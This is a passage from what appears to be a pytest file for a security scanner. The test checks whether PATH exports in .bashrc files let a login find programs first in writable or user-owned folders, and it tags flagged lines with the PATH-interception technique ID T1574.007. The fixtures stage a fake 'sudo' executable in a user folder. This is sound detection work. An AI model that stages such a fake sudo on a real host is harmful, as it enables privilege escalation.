        ("/root/.bashrc", "export PATH=$HOME/.linkerd2/bin:~/.dotfiles/bin:$HOME/.bin:$PATH", Verdict.FINE),
        ("/home/carol/.bashrc", 'export PATH="$PYENV_ROOT/bin:~/.local/bin:$PATH"', Verdict.FINE),
        ("/home/carol/.bashrc", "export MANPATH=/home/carol/.x:$MANPATH", Verdict.FINE),
    ],
)
def test_where_a_login_finds_programs_first(tmp_path: Path, path: str, line: str, verdict: Verdict) -> None:
    clean(tmp_path)
    put(tmp_path, path, f"# x\n{line}\n")
    put(tmp_path, "/home/carol/fake/sudo", "", 0o755)
    put(tmp_path, "/home/carol/bin/tool", "", 0o755)
    for folder, mode in (("all", 0o777), ("carols", 0o755)):
        (tmp_path / "srv" / folder).mkdir(parents=True)
        (tmp_path / "srv" / folder).chmod(mode)
    if rights.ROOT:
        for each in ("srv/carols", "home/carol/fake", "home/carol/bin", path.lstrip("/")):
            os.chown(tmp_path / each, 1000, 1000)
    elif "carols" in line:
        pytest.skip("only root gives files away")
    item = look(tmp_path).named(path)
    assert item.verdict is verdict, item.says
    assert ("finds programs first in" in item.says) is (verdict is not Verdict.FINE)
    assert item.technique == ("T1574.007" if verdict > Verdict.FINE else "")
